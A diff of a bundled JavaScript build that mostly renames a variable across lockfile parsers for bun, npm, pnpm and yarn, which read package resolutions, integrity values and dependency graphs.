-  const origin2 = originOf3(name3, rest, entry5);
+  const entry6 = form.kind === "registry" ? [rest, tables.text(at3 + 8), info, integrity] : form.kind === "git" ? [rest, info, "", integrity] : [rest, info, integrity];
+  const origin2 = originOf3(name3, rest, entry6);
   if (origin2 === void 0 || !isOf2(form.kind, origin2))
     return wrong2(`has a package whose origin is not known: ${JSON.stringify(`${name3}@${rest}`)}`);
   return {
@@ -49213,9 +49213,9 @@ var readBunBinary = (bytes2, context) => {
   const patches = patchesOf(tables);
   const collect2 = packageCollector();
   const places = requests.map((own2, row) => {
-    const entry5 = readBunBinaryEntry(tables, row, bundled.has(row));
-    if (entry5 === void 0) return { own: own2, importer: ".", base: void 0, key: void 0 };
-    const { found, spec } = entry5;
+    const entry6 = readBunBinaryEntry(tables, row, bundled.has(row));
+    if (entry6 === void 0) return { own: own2, importer: ".", base: void 0, key: void 0 };
+    const { found, spec } = entry6;
     const base = collect2.add(found);
     const importer = found.resolution.kind === "workspace" ? found.resolution.path : void 0;
     const patch = patches.size === 0 ? void 0 : patches.get(wyhash(Buffer.from(spec)));
@@ -49436,7 +49436,7 @@ var addAliases = (npm, npmKey, collect2) => {
   }
 };
 var npmLookUp = (npm) => {
-  const byName3 = new Map([...npm].map(([id, entry5]) => [splitName(id)?.name, entry5.key]));
+  const byName3 = new Map([...npm].map(([id, entry6]) => [splitName(id)?.name, entry6.key]));
   return (target) => npm.get(target)?.key ?? byName3.get(target);
 };
 
@@ -49573,20 +49573,20 @@ var graphOf2 = (nodes) => {
     () => edgesOf(nodes, find())
   );
 };
-var importersOf = (nodes, find) => nodes.filter(({ entry: entry5, key }) => key === void 0 && entry5["link"] !== true).map(({ place: place2, entry: entry5 }) => ({
+var importersOf = (nodes, find) => nodes.filter(({ entry: entry6, key }) => key === void 0 && entry6["link"] !== true).map(({ place: place2, entry: entry6 }) => ({
   path: place2 === "" ? "." : place2,
-  dependencies: declared(find, place2, entry5)
+  dependencies: declared(find, place2, entry6)
 }));
 var edgesOf = (nodes, find) => {
   const edges = edgeCollector();
-  for (const { place: place2, entry: entry5, key } of nodes) {
+  for (const { place: place2, entry: entry6, key } of nodes) {
     if (key === void 0) continue;
-    const optional = groupOf2(entry5, "optionalDependencies");
+    const optional = groupOf2(entry6, "optionalDependencies");
     for (const name3 in optional) edges.add(key, find(place2, name3), "optional");
-    for (const name3 in groupOf2(entry5, "dependencies")) {
+    for (const name3 in groupOf2(entry6, "dependencies")) {
       if (!Object.hasOwn(optional, name3)) edges.add(key, find(place2, name3), "prod");
     }
-    for (const name3 in groupOf2(entry5, "peerDependencies")) edges.add(key, find(place2, name3), "peer");
+    for (const name3 in groupOf2(entry6, "peerDependencies")) edges.add(key, find(place2, name3), "peer");
   }
   return edges.edges();
 };
@@ -49596,16 +49596,16 @@ var importerGroups = [
   ["peerDependencies", "peer"],
   ["devDependencies", "dev"]
 ];
-var declared = (find, place2, entry5) => importerGroups.flatMap(
-  ([group, scope]) => Object.entries(groupOf2(entry5, group)).map(([name3, range]) => ({
+var declared = (find, place2, entry6) => importerGroups.flatMap(
+  ([group, scope]) => Object.entries(groupOf2(entry6, group)).map(([name3, range]) => ({
     name: name3,
     range: typeof range === "string" ? range : "",
     scope,
     key: find(place2, name3)
   }))
 );
-var groupOf2 = (entry5, group) => {
-  const value3 = entry5[group];
+var groupOf2 = (entry6, group) => {
+  const value3 = entry6[group];
   return isObject6(value3) ? value3 : noGroup;
 };
 var noGroup = {};
@@ -49654,20 +49654,20 @@ var checkName = (name3, place2) => {
   if (!isPackageName(name3)) throw new LockfileError(`"${name3}" at "${place2}" is not a package name.`);
 };
 var kindOf2 = (value3) => value3 === void 0 ? "missing" : value3 === null ? "null" : isList(value3) ? "a list" : typeof value3 === "object" ? "an object" : `a ${typeof value3}`;
-var optionalText = (entry5, field2, place2) => {
-  const value3 = entry5[field2];
+var optionalText = (entry6, field2, place2) => {
+  const value3 = entry6[field2];
   if (value3 === void 0 || typeof value3 === "string") return value3;
   if (value3 === false && field2 === "resolved") return void 0;
   throw new LockfileError(`"${field2}" of "${place2}" is ${kindOf2(value3)}, not a text.`);
 };
-var optionalFlag = (entry5, field2, place2) => {
-  const value3 = entry5[field2];
+var optionalFlag = (entry6, field2, place2) => {
+  const value3 = entry6[field2];
   if (value3 === void 0) return false;
   if (typeof value3 === "boolean") return value3;
   throw new LockfileError(`"${field2}" of "${place2}" is ${kindOf2(value3)}, not true or false.`);
 };
-var texts2 = (entry5, field2, place2) => {
-  const value3 = entry5[field2];
+var texts2 = (entry6, field2, place2) => {
+  const value3 = entry6[field2];
   if (value3 === void 0) return [];
   if (typeof value3 === "string") return [value3];
   if (isList(value3) && value3.every((item2) => typeof item2 === "string")) return value3;
@@ -49675,7 +49675,7 @@ var texts2 = (entry5, field2, place2) => {
 };
 
 // src/lockfiles/npm-tree.ts
-var treeNodesOf = (name3, entry5) => entriesOf4(name3, entry5).map(([place2, installedAs, found]) => ({
+var treeNodesOf = (name3, entry6) => entriesOf4(name3, entry6).map(([place2, installedAs, found]) => ({
   place: place2,
   installedAs,
   entry: withRequires(found, place2),
@@ -49683,9 +49683,9 @@ var treeNodesOf = (name3, entry5) => entriesOf4(name3, entry5).map(([place2, ins
 }));
 var treeLockfile = (tree, context) => {
   const collect2 = packageCollector();
-  const nodes = tree.map(({ place: place2, entry: entry5, found, installedAs }) => ({
+  const nodes = tree.map(({ place: place2, entry: entry6, found, installedAs }) => ({
     place: place2,
-    entry: entry5,
+    entry: entry6,
     key: collect2.take(found, installedAs)
   }));
   return {
@@ -49702,9 +49702,9 @@ var treeLockfile = (tree, context) => {
     })
   };
 };
-var treePackagesOf = (name3, entry5) => {
+var treePackagesOf = (name3, entry6) => {
   const packages = [];
-  for (const [place2, installedAs, inner] of entriesOf4(name3, entry5)) {
+  for (const [place2, installedAs, inner] of entriesOf4(name3, entry6)) {
     const version4 = optionalText(inner, "version", place2);
     if (version4 === void 0 || isFolder(version4)) continue;
     const elsewhere3 = isElsewhere2(version4);
@@ -49721,9 +49721,9 @@ var treePackagesOf = (name3, entry5) => {
 };
 var addTreePackages = (tree, collect2) => {
   const listed7 = once2(() => new Set(collect2.packages().map(({ resolution }) => sourceOf(resolution))));
-  for (const { place: place2, installedAs, entry: entry5, source, found } of tree) {
+  for (const { place: place2, installedAs, entry: entry6, source, found } of tree) {
     if (source !== void 0 && listed7().has(source)) continue;
-    collect2.take(found ?? treePackage(installedAs, entry5, place2), installedAs);
+    collect2.take(found ?? treePackage(installedAs, entry6, place2), installedAs);
   }
 };
 var sourceOf = (resolution) => {
@@ -49740,7 +49740,7 @@ var sourceOf = (resolution) => {
       return resolution.patch;
   }
 };
-var entriesOf4 = (name3, entry5) => {
+var entriesOf4 = (name3, entry6) => {
   const found = [];
   const visit = (installedAs, value3, place2, depth) => {
     if (!isObject6(value3)) {
@@ -49757,24 +49757,24 @@ var entriesOf4 = (name3, entry5) => {
       visit(inner, dependencies[inner] ?? null, `${place2}/node_modules/${inner}`, depth + 1);
     }
   };
-  visit(name3, entry5, `node_modules/${name3}`, 0);
+  visit(name3, entry6, `node_modules/${name3}`, 0);
   return found;
 };
 var isFolder = (version4) => version4.startsWith("file:") && !/\.(?:tgz|tar|tar.gz)$/i.test(version4);
 var isElsewhere2 = (version4) => /^(?:git|https?|file|github|gitlab|bitbucket)[:+]/.test(version4);
-var withRequires = (entry5, place2) => {
-  const requires = own(entry5, "requires");
+var withRequires = (entry6, place2) => {
+  const requires = own(entry6, "requires");
   if (requires === void 0 || typeof requires === "boolean") return {};
   if (!isObject6(requires))
     throw new LockfileError(`"requires" of "${place2}" is ${kindOf2(requires)}, not an object.`);
   return { dependencies: requires };
 };
-var treePackage = (installedAs, entry5, place2) => {
+var treePackage = (installedAs, entry6, place2) => {
   checkName(installedAs, place2);
-  const written = optionalText(entry5, "version", place2);
+  const written = optionalText(entry6, "version", place2);
   if (written === void 0) throw new LockfileError(`The entry "${place2}" has no version.`);
-  const resolved = optionalText(entry5, "resolved", place2);
-  const integrity = optionalText(entry5, "integrity", place2);
+  const resolved = optionalText(entry6, "resolved", place2);
+  const integrity = optionalText(entry6, "integrity", place2);
   const alias = /^npm:((?:@[^/@]+\/)?[^/@]+)@(.+)$/.exec(written);
   const name3 = alias?.[1] ?? installedAs;
   checkName(name3, place2);
@@ -49786,7 +49786,7 @@ var treePackage = (installedAs, entry5, place2) => {
     resolution: isFolder(written) ? { kind: "workspace", path: written.slice("file:".length) } : resolutionOf(name3, version4, elsewhere3 ? written : resolved, integrity),
     installedAs,
     hasInstallScript: void 0,
-    bundled: isBundled2(optionalFlag(entry5, "bundled", place2), place2, resolved ?? integrity),
+    bundled: isBundled2(optionalFlag(entry6, "bundled", place2), place2, resolved ?? integrity),
     os: [],
     cpu: []
   });
@@ -49815,9 +49815,9 @@ var readNpmSlowly = (text3, context) => {
   const root2 = readJson(text3);
   if (!isObject6(root2)) throw new LockfileError("The file does not hold a JSON object.", { line: 1 });
   return lockfileOf(root2, context, {
-    nodes: (version4) => packagesOf(root2, version4).map(([place2, entry5]) => nodeAt(place2, entry5)),
-    tree: () => dependenciesOf(root2).map(([name3, entry5]) => treePackagesOf(name3, entry5)),
-    treeNodes: () => dependenciesOf(root2).map(([name3, entry5]) => treeNodesOf(name3, entry5))
+    nodes: (version4) => packagesOf(root2, version4).map(([place2, entry6]) => nodeAt(place2, entry6)),
+    tree: () => dependenciesOf(root2).map(([name3, entry6]) => treePackagesOf(name3, entry6)),
+    treeNodes: () => dependenciesOf(root2).map(([name3, entry6]) => treeNodesOf(name3, entry6))
   });
 };
 var readCut = (text3, context, known2) => {
@@ -49826,7 +49826,7 @@ var readCut = (text3, context, known2) => {
   const all = (object, entries2, read) => {
     const found = entries2.read(
       file.members(object),
-      (fresh) => file.read(object, fresh)?.map(([name3, entry5]) => read(name3, entry5))
+      (fresh) => file.read(object, fresh)?.map(([name3, entry6]) => read(name3, entry6))
     );
     if (found === void 0) throw new LockfileError("Not in the form that npm writes.");
     return found;
@@ -49884,9 +49884,9 @@ var dependenciesOf = (root2) => {
 };
 var listLockfile = (nodes, tree, context, version4) => {
   const collect2 = packageCollector();
-  const placed = nodes.map(({ place: place2, entry: entry5, found, installedAs }) => ({
+  const placed = nodes.map(({ place: place2, entry: entry6, found, installedAs }) => ({
     place: place2,
-    entry: entry5,
+    entry: entry6,
     key: found === void 0 ? void 0 : collect2.take(found, installedAs)
   }));
   addTreePackages(tree, collect2);
@@ -49898,21 +49898,21 @@ var listLockfile = (nodes, tree, context, version4) => {
     graph: once2(() => graphOf2(placed))
   };
 };
-var nodeAt = (place2, entry5) => {
-  if (!isObject6(entry5)) throw new LockfileError(`The entry "${place2}" is ${kindOf2(entry5)}, not an object.`);
+var nodeAt = (place2, entry6) => {
+  if (!isObject6(entry6)) throw new LockfileError(`The entry "${place2}" is ${kindOf2(entry6)}, not an object.`);
   const at3 = place2.lastIndexOf("node_modules/");
   const installedAs = at3 === -1 ? "" : place2.slice(at3 + "node_modules/".length);
-  const isPackage = place2 !== "" && !optionalFlag(entry5, "link", place2) && at3 !== -1;
-  const found = isPackage ? packageAt(place2, installedAs, entry5) : void 0;
-  return { place: place2, entry: entry5, found, installedAs };
+  const isPackage = place2 !== "" && !optionalFlag(entry6, "link", place2) && at3 !== -1;
+  const found = isPackage ? packageAt(place2, installedAs, entry6) : void 0;
+  return { place: place2, entry: entry6, found, installedAs };
 };
-var packageAt = (place2, installedAs, entry5) => {
-  const name3 = optionalText(entry5, "name", place2) ?? installedAs;
+var packageAt = (place2, installedAs, entry6) => {
+  const name3 = optionalText(entry6, "name", place2) ?? installedAs;
   checkName(installedAs, place2);
   if (name3 !== installedAs) checkName(name3, place2);
-  const resolved = optionalText(entry5, "resolved", place2);
-  const integrity = optionalText(entry5, "integrity", place2);
-  const written = optionalText(entry5, "version", place2);
+  const resolved = optionalText(entry6, "resolved", place2);
+  const integrity = optionalText(entry6, "integrity", place2);
+  const written = optionalText(entry6, "version", place2);
   if (written === void 0 && resolved === void 0) {
     throw new LockfileError(`The entry "${place2}" has neither a version nor a place it comes from.`);
   }
@@ -49921,10 +49921,10 @@ var packageAt = (place2, installedAs, entry5) => {
     version: written ?? "",
     resolution: resolutionOf(name3, written ?? "", resolved, integrity),
     installedAs,
-    hasInstallScript: optionalFlag(entry5, "hasInstallScript", place2),
-    bundled: isBundled2(optionalFlag(entry5, "inBundle", place2), place2, resolved ?? integrity),
-    os: texts2(entry5, "os", place2),
-    cpu: texts2(entry5, "cpu", place2)
+    hasInstallScript: optionalFlag(entry6, "hasInstallScript", place2),
+    bundled: isBundled2(optionalFlag(entry6, "inBundle", place2), place2, resolved ?? integrity),
+    os: texts2(entry6, "os", place2),
+    cpu: texts2(entry6, "cpu", place2)
   });
 };
 
@@ -49981,9 +49981,9 @@ var tapeOf = (documents, source) => {
     const top = add(nodeKind[node.kind], node.offset);
     if (node.kind === "list") node.items.forEach(addNode2);
     else {
-      for (const [key, entry5] of node.entries) {
-        addScalar(key, entry5.offset);
-        addNode2(entry5.value);
+      for (const [key, entry6] of node.entries) {
+        addScalar(key, entry6.offset);
+        addNode2(entry6.value);
       }
     }
     ends[top] = kinds5.length;
@@ -50090,7 +50090,7 @@ var rangesOf = (tape, declared4) => {
 // src/lockfiles/pnpm-aliases.ts
 var nameAliases = (tape, document, gathered) => {
   const naming = { tape, document, gathered };
-  for (const entry5 of document.entries) eachDependency(tape, entry5 + 1, nameAlias, naming);
+  for (const entry6 of document.entries) eachDependency(tape, entry6 + 1, nameAlias, naming);
   for (const { declared: declared4 } of document.importers) {
     eachDeclared(tape, declared4, nameAlias, naming);
     rangesOf(tape, declared4);
@@ -50408,19 +50408,19 @@ var readPackage = (reading, key) => {
   const { tape, grammar, known: known2, gathered } = reading;
   const path = scalarAt(tape, key) ?? "";
   const id = withoutPeers(grammar, path);
-  const entry5 = entryOf2(tape, grammar, key, path);
-  const { name: name3, version: version4 } = entry5;
+  const entry6 = entryOf2(tape, grammar, key, path);
+  const { name: name3, version: version4 } = entry6;
   const found = {
     name: name3,
     version: version4,
-    keys: entry5.sources.map((source) => addPackage(gathered, entry5, source))
+    keys: entry6.sources.map((source) => addPackage(gathered, entry6, source))
   };
   const before2 = known2.get(id);
   if (before2 !== void 0 && before2.keys[0] !== found.keys[0]) {
     throw fault(tape, key, `"${id}" stands twice in "packages", with different sources.`);
   }
   if (before2 === void 0) known2.set(id, found);
-  addPatch(reading, path, before2 ?? found, entry5.isPatched);
+  addPatch(reading, path, before2 ?? found, entry6.isPatched);
 };
 var readSnapshot = (reading, key) => {
   const { tape, grammar, known: known2 } = reading;
@@ -50499,9 +50499,9 @@ var edgesOf2 = (tape, documents) => {
   const collect2 = edgeCollector();
   for (const { entries: entries2, keysOf, targetOf } of documents) {
     const peers = peersOf(tape, entries2, keysOf);
-    for (const entry5 of entries2) {
-      for (const owner of keysOf(scalarAt(tape, entry5) ?? "")) {
-        eachDependency(tape, entry5 + 1, link, { tape, targetOf, collect: collect2, owner, peers: peers.get(owner) });
+    for (const entry6 of entries2) {
+      for (const owner of keysOf(scalarAt(tape, entry6) ?? "")) {
+        eachDependency(tape, entry6 + 1, link, { tape, targetOf, collect: collect2, owner, peers: peers.get(owner) });
       }
     }
   }
@@ -50515,11 +50515,11 @@ var link = ({ tape, targetOf, collect: collect2, owner, peers }, nameNode, refer
 };
 var peersOf = (tape, entries2, keysOf) => {
   const peers = /* @__PURE__ */ new Map();
-  for (const entry5 of entries2) {
-    const end = endOfMap(tape, entry5 + 1, "An entry");
-    for (let field2 = entry5 + 2; field2 < end; field2 = nodeAfter(tape, field2 + 1)) {
+  for (const entry6 of entries2) {
+    const end = endOfMap(tape, entry6 + 1, "An entry");
+    for (let field2 = entry6 + 2; field2 < end; field2 = nodeAfter(tape, field2 + 1)) {
       if (!isKey(tape, field2, "peerDependencies") || tape.kinds[field2 + 1] !== nodeKind.map) continue;
-      for (const key of keysOf(scalarAt(tape, entry5) ?? "")) {
+      for (const key of keysOf(scalarAt(tape, entry6) ?? "")) {
         const names4 = peers.get(key) ?? /* @__PURE__ */ new Set();
         peers.set(key, names4);
         eachEntry(tape, field2 + 1, '"peerDependencies"', (name3) => names4.add(scalarAt(tape, name3) ?? ""));
@@ -51304,8 +51304,8 @@ var readBerryEntries = (text3, visit) => {
   checkBerryVersion(version4);
   reader.fields(metadata, "__metadata", ["version", "cacheKey"]);
   visit.version(version4);
-  for (const [key, entry5] of root2.entries) {
-    if (key !== "__metadata") visit.entry(reader.entry(key, entry5));
+  for (const [key, entry6] of root2.entries) {
+    if (key !== "__metadata") visit.entry(reader.entry(key, entry6));
   }
 };
 var checkBerryVersion = (version4) => {
@@ -51337,9 +51337,9 @@ var readerOf = (text3) => {
     if (value3.kind === "map") return value3.entries;
     throw errorAt(text3, offset, `${what} is ${kindNames[value3.kind]}, not a map.`);
   };
-  const fields = (entry6, what, names4) => {
+  const fields = (entry7, what, names4) => {
     const found = {};
-    for (const [name3, value3] of map(entry6, quote3(what))) {
+    for (const [name3, value3] of map(entry7, quote3(what))) {
       const known2 = names4.find((one) => one === name3);
       if (known2 === void 0)
         throw errorAt(text3, value3.offset, `The field ${quote3(name3)} of ${quote3(what)} is not known.`);
@@ -51347,8 +51347,8 @@ var readerOf = (text3) => {
     }
     return found;
   };
-  const pairs = (entry6) => entry6 === void 0 ? [] : [...map(entry6, "A list of names")].flatMap(([name3, value3]) => [name3, scalar(value3, quote3(name3))]);
-  const meta = (entry6, names4) => entry6 === void 0 ? [] : [...map(entry6, "A list of names")].flatMap(([name3, value3]) => {
+  const pairs = (entry7) => entry7 === void 0 ? [] : [...map(entry7, "A list of names")].flatMap(([name3, value3]) => [name3, scalar(value3, quote3(name3))]);
+  const meta = (entry7, names4) => entry7 === void 0 ? [] : [...map(entry7, "A list of names")].flatMap(([name3, value3]) => {
     const flags = Object.entries(fields(value3, name3, names4));
     for (const [flag2, at3] of flags) {
       if (at3 !== void 0 && !["true", "false"].includes(scalar(at3, quote3(flag2)))) {
@@ -51359,8 +51359,8 @@ var readerOf = (text3) => {
       ([flag2, at3]) => flag2 === "optional" && at3 !== void 0 && textOf7(at3.value) === "true"
     ) ? [name3, "true"] : [];
   });
-  const optionalScalar = (entry6, what) => entry6 === void 0 ? void 0 : scalar(entry6, what);
-  const entry5 = (key, at3) => {
+  const optionalScalar = (entry7, what) => entry7 === void 0 ? void 0 : scalar(entry7, what);
+  const entry6 = (key, at3) => {
     const found = fields(at3, key, fieldNames);
     const resolution = optionalScalar(found.resolution, '"resolution"');
     const linkType = optionalScalar(found.linkType, '"linkType"');
@@ -51384,7 +51384,7 @@ var readerOf = (text3) => {
       dependenciesMeta: meta(found.dependenciesMeta, ["built", "optional", "unplugged"])
     };
   };
-  return { scalar, map, fields, entry: entry5 };
+  return { scalar, map, fields, entry: entry6 };
 };
 var kindNames = { scalar: "a text", list: "a list", map: "a map" };
 var textOf7 = (node) => node.kind === "scalar" ? node.value : void 0;
@@ -51461,8 +51461,8 @@ var berryGraph = (placed, targets, { manifests }) => {
   const find = finder(placed, targets);
   const edges = edgeCollector();
   const importers = [];
-  for (const { entry: entry5, key, resolution } of placed) {
-    const lines = linesOf2(entry5, find);
+  for (const { entry: entry6, key, resolution } of placed) {
+    const lines = linesOf2(entry6, find);
     const manifest = resolution.kind === "workspace" ? manifests.get(resolution.path) : void 0;
     for (const { name: name3, key: target, scope } of lines) {
       if (scope !== "dev" && !isDev(manifest, name3, scope)) edges.add(key, target, scope);
@@ -51475,7 +51475,7 @@ var berryGraph = (placed, targets, { manifests }) => {
   return { importers, edges: edges.edges() };
 };
 var finder = (placed, targets) => {
-  const locators = new Map(placed.map(({ entry: entry5, key }) => [entry5.resolution, key]));
+  const locators = new Map(placed.map(({ entry: entry6, key }) => [entry6.resolution, key]));
   const sources = new Set(
     placed.flatMap(
       ({ resolution }) => resolution.kind === "patch" ? [locators.get(patchedLocator(resolution.patch))] : []
@@ -51515,23 +51515,23 @@ var encodeAscii = (text3) => text3.replaceAll(
   /[^\w.!~*'()-]/g,
   (character) => character <= "" ? encodeURIComponent(character) : character
 );
-var linesOf2 = (entry5, find) => {
-  const { dependencies, optionalDependencies, peerDependencies, dependenciesMeta } = entry5;
+var linesOf2 = (entry6, find) => {
+  const { dependencies, optionalDependencies, peerDependencies, dependenciesMeta } = entry6;
   const lines = [];
   const optional = dependenciesMeta.length === 0 ? void 0 : optionalNamesOf(dependenciesMeta);
   const other3 = optionalDependencies.length === 0 ? void 0 : new Set(pairsOf(optionalDependencies).filter((_, index) => index % 2 === 0));
   eachPair(pairsOf(dependencies), (name3, range) => {
     if (other3?.has(name3) === true) return;
     const scope = optional?.has(name3) === true ? "optional" : "prod";
-    lines.push({ name: name3, range, scope, key: find.dependency(entry5, name3, range) });
+    lines.push({ name: name3, range, scope, key: find.dependency(entry6, name3, range) });
   });
   eachPair(pairsOf(optionalDependencies), (name3, range) => {
-    lines.push({ name: name3, range, scope: "optional", key: find.dependency(entry5, name3, range) });
+    lines.push({ name: name3, range, scope: "optional", key: find.dependency(entry6, name3, range) });
   });
   if (peerDependencies.length === 0) return lines;
   const own2 = new Map(lines.map(({ name: name3, key }) => [name3, key]));
   eachPair(pairsOf(peerDependencies), (name3, range) => {
-    lines.push({ name: name3, range, scope: "peer", key: own2.get(name3) ?? find.dependency(entry5, name3, range) });
+    lines.push({ name: name3, range, scope: "peer", key: own2.get(name3) ?? find.dependency(entry6, name3, range) });
   });
   return lines;
 };
@@ -51544,7 +51544,7 @@ var declared2 = (manifest, lines) => {
 };
 
 // src/lockfiles/yarn-berry-place.ts
-var placeOf2 = (reference, name3, version4, entry5, text3) => reference.startsWith("npm:") ? npmResolution(reference, name3, version4, entry5, text3) : resolutionOf4(reference, entry5, text3);
+var placeOf2 = (reference, name3, version4, entry6, text3) => reference.startsWith("npm:") ? npmResolution(reference, name3, version4, entry6, text3) : resolutionOf4(reference, entry6, text3);
 var npmResolution = (reference, name3, version4, { checksum: checksum2, offset, resolution }, text3) => {
   if (reference.length === version4.length + 4 && reference.endsWith(version4)) {
     return { kind: "registry", resolved: void 0, integrity: checksum2 };
@@ -51615,14 +51615,14 @@ var readBlocks = (text3, context, known2) => {
   const entries2 = known2.read(file.blocks, (blocks) => {
     const read = [];
     for (const block3 of blocks) {
-      const entry5 = scanBerryEntry(block3);
-      if (entry5 === void 0) return void 0;
-      read.push(packageOf(entry5, block3));
+      const entry6 = scanBerryEntry(block3);
+      if (entry6 === void 0) return void 0;
+      read.push(packageOf(entry6, block3));
     }
     return read;
   });
   const built2 = builder();
-  return entries2?.every((entry5) => built2.add(entry5) === void 0) === true ? lockfileOf2(file.version, built2, context) : void 0;
+  return entries2?.every((entry6) => built2.add(entry6) === void 0) === true ? lockfileOf2(file.version, built2, context) : void 0;
 };
 var readYarnBerrySlowly = (text3, context) => {
   const clean = cleanText(text3);
@@ -51632,10 +51632,10 @@ var readYarnBerrySlowly = (text3, context) => {
     version: (version4) => {
       formatVersion = version4;
     },
-    entry: (entry5) => {
-      const repeated2 = built2.add(packageOf(entry5, clean));
+    entry: (entry6) => {
+      const repeated2 = built2.add(packageOf(entry6, clean));
       if (repeated2 !== void 0)
-        throw errorAt(clean, entry5.offset, `${quote3(repeated2)} stands twice in the file.`);
+        throw errorAt(clean, entry6.offset, `${quote3(repeated2)} stands twice in the file.`);
     }
   });
   return lockfileOf2(formatVersion, built2, context);
@@ -51651,7 +51651,7 @@ var builder = () => {
   const collect2 = packageCollector();
   const targets = /* @__PURE__ */ new Map();
   const placed = [];
-  const add = ({ entry: entry5, found, descriptors, aliases }) => {
+  const add = ({ entry: entry6, found, descriptors, aliases }) => {
     const key = collect2.take(found, found.name);
     for (const alias of aliases) collect2.alias(key, alias);
     for (const descriptor of descriptors) {
@@ -51659,35 +51659,35 @@ var builder = () => {
       targets.set(descriptor, key);
       if (targets.size === known2) return descriptor;
     }
-    placed.push({ entry: entry5, key, resolution: found.resolution });
+    placed.push({ entry: entry6, key, resolution: found.resolution });
     return void 0;
   };
   return { add, packages: collect2.packages, placed, targets };
 };
-var packageOf = (entry5, text3) => {
-  const at3 = entry5.resolution.indexOf("@", 1);
-  const name3 = entry5.resolution.slice(0, at3);
+var packageOf = (entry6, text3) => {
+  const at3 = entry6.resolution.indexOf("@", 1);
+  const name3 = entry6.resolution.slice(0, at3);
   if (at3 === -1 || !isName(name3)) {
     throw errorAt(
       text3,
-      entry5.offset,
-      `The resolution ${quote3(entry5.resolution)} does not begin with a package's name.`
+      entry6.offset,
+      `The resolution ${quote3(entry6.resolution)} does not begin with a package's name.`
     );
   }
-  const { version: version4 } = entry5;
+  const { version: version4 } = entry6;
   if (version4 === void 0 || !canBeVersion(version4)) {
-    throw errorAt(text3, entry5.offset, `The entry ${quote3(entry5.key)} has no version that can be one.`);
+    throw errorAt(text3, entry6.offset, `The entry ${quote3(entry6.key)} has no version that can be one.`);
   }
-  const reference = entry5.resolution.slice(at3 + 1);
-  const resolution = placeOf2(reference, name3, version4, entry5, text3);
-  const { os, cpu } = platformOf(entry5, text3);
-  const descriptors = descriptorsOf(entry5.key);
+  const reference = entry6.resolution.slice(at3 + 1);
+  const resolution = placeOf2(reference, name3, version4, entry6, text3);
+  const { os, cpu } = platformOf(entry6, text3);
+  const descriptors = descriptorsOf(entry6.key);
   const aliases = [];
   for (const descriptor of descriptors) {
     if (descriptor.startsWith(name3) && descriptor.startsWith("@", name3.length)) continue;
     const alias = descriptor.slice(0, Math.max(0, descriptor.indexOf("@", 1)));
     if (!isName(alias)) {
-      throw errorAt(text3, entry5.offset, `${quote3(descriptor)} does not begin with the name of a package.`);
+      throw errorAt(text3, entry6.offset, `${quote3(descriptor)} does not begin with the name of a package.`);
     }
     aliases.push(alias);
   }
@@ -51701,7 +51701,7 @@ var packageOf = (entry5, text3) => {
     os,
     cpu
   });
-  return { entry: entry5, found, descriptors, aliases };
+  return { entry: entry6, found, descriptors, aliases };
 };
 
 // src/lockfiles/yarn-classic-names.ts
@@ -51718,8 +51718,8 @@ var simpleName = ({ descriptors, name: called }) => {
 };
 var atSign2 = 64;
 var letterN = 110;
-var mixedInstalls = (entry5, text3) => {
-  const read = entry5.descriptors.map((descriptor) => ({ descriptor, ...namesOf(descriptor, entry5, text3) }));
+var mixedInstalls = (entry6, text3) => {
+  const read = entry6.descriptors.map((descriptor) => ({ descriptor, ...namesOf(descriptor, entry6, text3) }));
   const aliases = new Map(
     read.flatMap(({ alias, name: name3 }) => name3 === void 0 ? [] : [[alias, name3]])
   );
@@ -51732,21 +51732,21 @@ var mixedInstalls = (entry5, text3) => {
     install.descriptors.push(descriptor);
   }
   const names4 = new Set(read.flatMap(({ alias, name: name3 }) => name3 === void 0 ? [alias] : [alias, name3]));
-  const called = entry5.name === void 0 || names4.has(entry5.name) ? [] : [entry5.name];
+  const called = entry6.name === void 0 || names4.has(entry6.name) ? [] : [entry6.name];
   return [...installs].map(([name3, { installedAs, descriptors }]) => ({
     name: name3,
     installedAs: [...installedAs, ...called],
     descriptors
   }));
 };
-var namesOf = (descriptor, entry5, text3) => {
+var namesOf = (descriptor, entry6, text3) => {
   const at3 = descriptor.indexOf("@", 1);
   const written = at3 === -1 ? descriptor : descriptor.slice(0, at3);
-  const alias = isName(written) && !/[:/]/.test(written.replace(/^@[^/]+\//, "")) ? written : entry5.name;
+  const alias = isName(written) && !/[:/]/.test(written.replace(/^@[^/]+\//, "")) ? written : entry6.name;
   const range = at3 === -1 ? "" : descriptor.slice(at3 + 1);
   const name3 = range.startsWith("npm:") ? /^(.[^@]*)/.exec(range.slice(4))?.[1] : void 0;
   if (alias === void 0 || !isName(alias) || range.startsWith("npm:") && (name3 === void 0 || !isName(name3))) {
-    throw errorAt(text3, entry5.offset, `${quote3(descriptor)} does not begin with the name of a package.`);
+    throw errorAt(text3, entry6.offset, `${quote3(descriptor)} does not begin with the name of a package.`);
   }
   return { alias, name: name3 };
 };
@@ -51774,19 +51774,19 @@ var unresolved = (descriptors, integrity) => {
 var readClassicEntries = (text3, visit) => {
   checkText2(text3);
   const entries2 = [];
-  let entry5;
+  let entry6;
   let block3;
   for (const line of linesOf3(text3)) {
     if (line.tokens.length === 0) {
-      entry5 = void 0;
+      entry6 = void 0;
       block3 = void 0;
       checkVersion(line);
     } else if (line.indent === 0) {
-      entry5 = { offset: line.offset, descriptors: descriptorsOf2(line), fields: /* @__PURE__ */ new Map(), blocks: /* @__PURE__ */ new Map() };
-      entries2.push(entry5);
+      entry6 = { offset: line.offset, descriptors: descriptorsOf2(line), fields: /* @__PURE__ */ new Map(), blocks: /* @__PURE__ */ new Map() };
+      entries2.push(entry6);
       block3 = void 0;
-    } else if (line.indent === 2 && entry5 !== void 0) {
-      block3 = fieldOf(line, entry5);
+    } else if (line.indent === 2 && entry6 !== void 0) {
+      block3 = fieldOf(line, entry6);
     } else if (line.indent === 4 && block3 !== void 0) {
       const [name3, value3] = pairOf(line);
       if (block3.has(name3)) throw line.error(`The dependency ${quote3(name3)} stands twice in one entry.`);
@@ -51876,22 +51876,22 @@ var pairOf = (line) => {
 };
 var blockNames = /* @__PURE__ */ new Set(["dependencies", "optionalDependencies", "permissions"]);
 var fieldNames2 = /* @__PURE__ */ new Set(["name", "version", "uid", "resolved", "integrity", "registry"]);
-var fieldOf = (line, entry5) => {
+var fieldOf = (line, entry6) => {
   const [key, mark2] = line.tokens;
   const isBlock = line.tokens.length === 2 && key?.kind === "text" && mark2?.kind === ":";
   const [name3, value3] = isBlock ? [key.text, ""] : pairOf(line);
   if (!(isBlock ? blockNames : fieldNames2).has(name3)) {
     throw line.error(`The field ${quote3(name3)} is not known in a yarn.lock of version 1.`);
